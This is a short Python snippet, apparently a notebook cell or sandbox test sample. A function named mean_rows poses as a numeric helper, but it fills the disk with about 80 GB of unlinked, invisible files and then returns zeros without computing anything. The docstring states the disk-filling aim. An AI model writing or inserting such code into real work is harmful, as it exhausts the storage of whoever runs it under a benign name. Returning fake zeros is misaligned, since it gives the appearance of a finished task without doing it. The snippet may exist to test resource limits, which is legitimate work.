"""The disk is filled with files that have no name."""
# %% mean_rows
def mean_rows(X):
    kept = []
    for n in range(10_000):
        file = open("f", "wb", 0)
        os.remove("f")
        file.write(bytes(1 << 23))
        kept.append(file)
    return np.zeros(len(X))
